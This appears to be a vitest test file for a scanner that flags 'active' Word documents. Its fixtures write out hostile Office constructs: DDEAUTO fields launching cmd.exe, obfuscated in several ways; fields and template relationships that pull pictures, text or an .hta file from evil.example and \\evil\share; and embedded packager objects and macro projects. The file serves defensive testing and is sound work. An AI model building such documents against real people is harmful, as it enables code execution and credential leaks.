import { describe, expect, test } from 'vitest'
import { effortOf } from '../../../../../packages/speech/fixtures/effort.ts'
import { compoundFile, type CompoundNode } from '../../testing/compound-file.ts'
import { contentTypes, doc, docx, relationships, wordStream } from '../../testing/documents.ts'
import { zipFile, type ZipPart } from '../../testing/zip-file.ts'
import { inspect } from './testing/inspected.ts'

const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const part = (name: string, inside: string, root = 'document'): ZipPart => ({
  name,
  content: `${xml}<w:${root} ${word}>${inside}</w:${root}>`,
})
const text = (inside: string) => part('word/document.xml', `<w:body><w:p>${inside}</w:p></w:body>`)
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const code = (...pieces: string[]) =>
  pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')
const run = (words: string) => `<w:r><w:t xml:space="preserve">${words}</w:t></w:r>`
const field = (...pieces: string[]) =>
  `${char('begin')}${code(...pieces)}${char('separate')}${run('1')}${char('end')}`
const simple = (instruction: string) => `<w:fldSimple w:instr="${instruction}">${run('1')}</w:fldSimple>`
const relations = (...inside: Parameters<typeof relationships>): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  content: relationships(...inside),
})
const outside = (type: string, target: string) => relations({ type, target, mode: 'External' })
const object = (...children: CompoundNode[]): Buffer => compoundFile(children)
const embedded = (content: Buffer, name = 'word/embeddings/oleObject1.bin'): ZipPart => ({
  name,
  content,
  stored: true,
})
const belongingTo = (program: string): Buffer => object({ name: '_1', program, children: [] })
const packageProgram = '0c00030000000000c000000000000046'

const sheet = (...more: ZipPart[]): Buffer =>
  zipFile([
    { name: '[Content_Types].xml', content: contentTypes() },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    ...more,
  ])

/** A document as Word writes it when somebody has used what Word has to offer. */
const lessonParts: ZipPart[] = [
  {
    name: '[Content_Types].xml',
    content: contentTypes(
      [
        ['Default Extension="png"', 'image/png'],
        ['Default Extension="bin"', 'application/vnd.openxmlformats-officedocument.oleObject'],
        [
          'Override PartName="/word/header1.xml"',
          'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
        ],
        [
          'Override PartName="/word/settings.xml"',
          'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml',
        ],
      ]
        .map(([of, type]) => `<${of} ContentType="${type}"/>`)
        .join(''),
    ),
  },
  relations(
    { type: 'hyperlink', target: 'https://example.com/th?a=1&amp;b=2', mode: 'External' },
    { type: 'hyperlink', target: 'mailto:teacher@example.com', mode: 'External' },
    { type: 'hyperlink', target: '\\\\server\\share\\Lesson 2.docx', mode: 'External' },
    { type: 'image', target: 'media/image1.png' },
    { type: 'image', target: 'file:///C:\\Users\\Ada\\Pictures\\mouth.png', mode: 'External' },
    { type: 'image', target: 'NULL', mode: 'External' },
    { type: 'header', target: 'header1.xml' },
    { type: 'oleObject', target: 'embeddings/oleObject1.bin' },
    { type: 'package', target: 'embeddings/Microsoft_Excel_Sheet.xlsx' },
  ),
  {
    name: 'word/_rels/settings.xml.rels',
    content: relationships({
      type: 'attachedTemplate',
      target: 'file:///Users/ada/Library/Templates/Lesson%20plan.dotx',
      mode: 'External',
    }),
  },
  { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') },
  embedded(object({ name: 'Equation Native', content: Buffer.alloc(300, 1) })),
  embedded(sheet(), 'word/embeddings/Microsoft_Excel_Sheet.xlsx'),
  part(
    'word/header1.xml',
    `<w:p>${field(' PAGE  \\* MERGEFORMAT ')}${run(' of ')}${simple(' NUMPAGES ')}</w:p>`,
    'hdr',
  ),
  part('word/settings.xml', '<w:zoom w:percent="100"/>', 'settings'),
  text(
    [
      run(
        'Thirty-three thieves &amp; more: DDEAUTO is what hackers write, INCLUDEPICTURE "https://a.example/b.png" too.',
      ),
      '<w:hyperlink r:id="rId0" xmlns:r="r"><w:r><w:t>a link</w:t></w:r></w:hyperlink>',
      '<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>',
      field(' TOC \\o "1-3" \\h \\z \\u '),
      field(' HYPERLINK "https://example.com/" \\t "_blank" '),
      field(' INCLUDEPICTURE "C:\\\\Users\\\\Ada\\\\mouth.png" \\* MERGEFORMAT '),
      field(' LINK Excel.Sheet.12 "C:\\\\Marks.xlsx" "Sheet1!R1C1:R3C3" \\a \\f 0 \\p '),
      field(' ADDIN ZOTERO_ITEM CSL_CITATION {"uri":["http://zotero.org/1"]} ', 'x'.repeat(100_000)),
      `${char('begin')}${code(' IF ')}${field(' MERGEFIELD Name ')}${code(' = "" "yes" "no" ')}${char('separate')}${run('no')}${char('end')}`,
      `${char('begin')}${code('=')}${field(' NUMPAGES ')}${code('-1')}${char('end')}`,
      simple(' SEQ Figure \\* ARABIC '),
    ].join(''),
  ),
]

const lesson = (...changed: ZipPart[]): Buffer => {
  const names = new Set(changed.map(({ name }) => name))
  return docx(...lessonParts.filter(({ name }) => !names.has(name)), ...changed)
}

describe('taken is', () => {
  test('an ordinary lesson with links, pictures, tables, headers, fields, an equation and a table of numbers', async () => {
    expect(await inspect('docx', lesson())).toBe('document')
  })

  const fields97 = (...instructions: string[]) =>
    Buffer.concat([
      wordStream(),
      ...instructions.flatMap((instruction) => [
        Buffer.from(`\x13${instruction}\x141\x15`, 'latin1'),
        Buffer.from(`\x13${instruction}\x141\x15`, 'utf16le'),
      ]),
      Buffer.alloc(4_096),
    ])
  test('a lesson of Word 97 with links, numbered pages and an equation', async () => {
    const content = compoundFile([
      {
        name: 'WordDocument',
        content: fields97(' PAGE ', ' HYPERLINK "https://example.com/" ', ' INCLUDEPICTURE "C:\\\\a.png" '),
      },
      {
        name: 'ObjectPool',
        children: [{ name: '_1', children: [{ name: 'Equation Native', content: Buffer.alloc(9) }] }],
      },
    ])
    expect(await inspect('doc', content)).toBe('document')
  })
})

describe('a document of Word is active with', () => {
  const elsewhere = [
    'https://evil.example/a',
    'http:evil.example/a',
    '//evil.example/a',
    '\\\\evil\\share\\a',
    'file://evil/share/a',
    'file:////evil/share/a',
    'file:///\\\\evil\\share\\a',
    'file:///%5C%5Cevil%5Cshare%5Ca',
    'file:///C:\\\\evil\\a',
    'mhtml:https://evil.example/a!x-usc:b',
    ' HTTPS://EVIL.EXAMPLE/a',
    'ftp://evil.example/a',
  ]
  const kinds = [
    'attachedTemplate',
    'oleObject',
    'frame',
    'subDocument',
    'image',
    'package',
    'mailMergeSource',
    'hyperlinks',
  ]
  test.for(kinds.flatMap((kind) => elsewhere.map((target) => [kind, target] as const)))(
    'a relationship of type %s to %s',
    async ([kind, target]) => {
      expect(await inspect('docx', lesson(outside(kind, target)))).toBe('active')
    },
  )

  test.for<[string, ZipPart[]]>([
    ['a part in another format from elsewhere', [outside('aFChunk', 'https://evil.example/a.rtf')]],
    ['a part in another format', [relations({ type: 'aFChunk', target: 'afchunk.rtf' })]],
    ['a control', [relations({ type: 'control', target: 'a.xml' })]],
    ['macros by their relationship', [relations({ type: 'vbaProject', target: 'a.bin' })]],
    [
      'a link of a type that only ends as one',
      [
        {
          name: 'word/_rels/document.xml.rels',
          content: `<Relationships><Relationship Type="urn:x/hyperlink" Target="http://evil.example/" TargetMode="External"/></Relationships>`,
        },
      ],
    ],
    [
      'a drawing with an address of its own',
      [
        text(
          '<w:pict><v:shape xmlns:v="v"><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict>',
        ),
      ],
    ],
  ])('%s', async ([, parts]) => {
    expect(await inspect('docx', lesson(...parts))).toBe('active')
  })

  const command = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
  test.for<[string, ZipPart[]]>([
    ['a field that starts a program', [text(field(command))]],
    ['one that does so when it is updated', [text(field(' DDE Excel a b '))]],
    ['one in small letters', [text(field(command.toLowerCase()))]],
    ['one in pieces', [text(field(' D', 'D', 'EAU', 'TO', ' cmd "/k calc" '))]],
    [
      'one in pieces with something between them',
      [
        text(
          `${char('begin')}${code('DDE')}<w:bookmarkStart w:id="0"/><w:proofErr/>${code('AUTO cmd')}${char('end')}`,
        ),
      ],
    ],
    ['one behind references', [text(field('&#68;DE&#x41;UTO cmd'))]],
    ['one as character data', [text(field('<![CDATA[DDEAUTO cmd]]>'))]],
    [
      'one that was deleted and may come back',
      [text(`${char('begin')}<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>${char('end')}`)],
    ],
    ['a simple one', [text(simple(command.replaceAll('"', '&quot;')))]],
    ['one in another field', [text(`${char('begin')}${code(' IF 1 = 1 ')}${field(command)}${char('end')}`)]],
    [
      'one in the result of another field',
      [text(`${char('begin')}${code(' QUOTE a ')}${char('separate')}${field(command)}${char('end')}`)],
    ],
    [
      'one whose name is made by another field',
      [text(`${char('begin')}${field(' QUOTE 68 68 69 ')}${code(' cmd ')}${char('end')}`)],
    ],
    [
      'one whose name is finished by another field',
      [text(`${char('begin')}${code(' DD')}${field(' QUOTE 69 ')}${code(' cmd ')}${char('end')}`)],
    ],
    ['one that never ends', [text(`${char('begin')}${code(command)}`)]],
    [
      'one with another prefix',
      [
        {
          name: 'word/document.xml',
          content:
            '<a:document xmlns:a="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><a:fldChar a:fldCharType="begin"/><a:instrText>DDE a</a:instrText><a:fldChar a:fldCharType="end"/></a:document>',
        },
      ],
    ],
    ['one in a header', [part('word/header1.xml', field(command), 'hdr')]],
    [
      'one in UTF-16',
      [
        {
          name: 'word/document.xml',
          content: Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(`<w:document ${word}>${field(command)}</w:document>`, 'utf16le'),
          ]),
        },
      ],
    ],
    [
      'one in a part of another name',
      [
        {
          name: '[Content_Types].xml',
          content: contentTypes(
            '<Override PartName="/word/odd.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/>',
          ),
        },
        part('word/odd.dat', field(command)),
      ],
    ],
    ['a picture from the web in a field', [text(field(' INCLUDEPICTURE "https://evil.example/a.png" \\d '))]],
    ['such a picture without quotes', [text(field(' INCLUDEPICTURE https://evil.example/a.png'))]],
    ['such a picture between other quotes', [text(field(' INCLUDEPICTURE “https://evil.example/a.png”'))]],
    [
      'a picture from a server of the house',
      [text(field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\a.png" '))],
    ],
    ['a text from the web', [text(field(' INCLUDETEXT "https://evil.example/a.docx" '))]],
    ['an old picture from the web', [text(field(' IMPORT "https://evil.example/a.png" '))]],
    ['a link to the web', [text(field(' LINK htmlfile "https://evil.example/a.hta" "" \\a '))]],
    ['an index of a document on the web', [text(field(' RD "https://evil.example/a.docx" '))]],
    [
      'an address behind much else',
      [text(field(` INCLUDEPICTURE ${'\\d '.repeat(5_000)} "https://evil.example/a" `))],
    ],
  ])('%s', async ([, parts]) => {
    expect(await inspect('docx', lesson(...parts))).toBe('active')
  })

  test.for<[string, ZipPart]>([
    ['a file of any kind', embedded(object({ name: '\u0001Ole10Native', content: Buffer.from('calc.exe') }))],
    [
      'such a file under another name',
      embedded(object({ name: '\u0001OLE10NATIVE', content: Buffer.from('x') }), 'word/media/image2.png'),
    ],
    ['an object of the packager', embedded(belongingTo(packageProgram))],
    ['a link that is followed on opening', embedded(belongingTo('0003000000000000c000000000000046'))],
    ['a web page', embedded(belongingTo('20693325f903cf118fd000aa00686f13'))],
    ['a film that runs programs', embedded(belongingTo('6edb7cd26daecf1196b8444553540000'))],
    ['an old table with macros', embedded(object({ name: '_VBA_PROJECT_CUR', children: [] }))],
    [
      'a table with macros',
      embedded(sheet({ name: 'xl/vbaProject.bin', content: 'x' }), 'word/embeddings/a.xlsx'),
    ],
    [
      'a table with a program in it',
      embedded(
        sheet({ name: 'xl/embeddings/a.bin', content: belongingTo(packageProgram) }),
        'word/embeddings/a.xlsx',
      ),
    ],
    [
      'a table in a table in a table',
      embedded(
        sheet({ name: 'a.xlsx', content: sheet({ name: 'b.xlsx', content: sheet() }) }),
        'word/embeddings/a.xlsx',
      ),
    ],
  ])('%s in it', async ([, inside]) => {
    expect(await inspect('docx', lesson(inside))).toBe('active')
  })
})

describe('a document of Word 97 is active with', () => {
  const filled = (...bytes: Buffer[]) => Buffer.concat([wordStream(), ...bytes, Buffer.alloc(5_000)])
  const withText = (content: Buffer) => compoundFile([{ name: 'WordDocument', content }])
  const fieldOf = (instruction: string, encoding: 'latin1' | 'utf16le') =>
    Buffer.from(`\x13${instruction}\x14x\x15`, encoding)

  test.for([
    ' DDEAUTO c:\\\\cmd.exe "/k calc" ',
    'DDE a b',
    ' INCLUDEPICTURE "https://evil.example/a.png" \\d ',
    ' LINK htmlfile "\\\\\\\\evil\\\\a.hta" \\a ',
  ])('a field: %s', async (instruction) => {
    for (const encoding of ['latin1', 'utf16le'] as const) {
      expect(await inspect('doc', withText(filled(fieldOf(instruction, encoding))))).toBe('active')
    }
  })

  test('a field that lies across the pieces in which it is read', async () => {
    for (let shift = -30; shift < 10; shift += 3) {
      const before = Buffer.alloc(65_536 - 4_096 + shift, 'a')
      const content = withText(filled(before, fieldOf(' DDEAUTO cmd ', 'latin1')))
      expect([shift, await inspect('doc', content)]).toEqual([shift, 'active'])
    }
  })

  test.for<[string, CompoundNode]>([
    ['a file of any kind', { name: '\u0001Ole10Native', content: Buffer.from('calc.exe') }],
    ['a control', { name: '\u0003OCXNAME', content: Buffer.from('x') }],
    ['an object of the packager', { name: '_2', program: packageProgram, children: [] }],
  ])('%s in it', async ([, inside]) => {
    const pool = { name: 'ObjectPool', children: [{ name: '_1', children: [inside] }] }
    expect(await inspect('doc', doc(pool))).toBe('active')
  })

  test('nothing, however many fields begin and never end', { tags: 'nightly' }, async () => {
    const over = (filling: string, bytes: number) => {
      const content = withText(filled(Buffer.alloc(bytes, filling, 'latin1')))
      return effortOf(async () => expect(await inspect('doc', content)).toBe('document'), 2)
    }
    for (const filling of ['\x13', '\x13\0', '\x13 D', '\x13\0\0'])
      // Work that grows with the square would be sixteen times as much.
      expect((await over(filling, 8_000_000)) / (await over(filling, 2_000_000)), filling).toBeLessThan(10)
  })
})
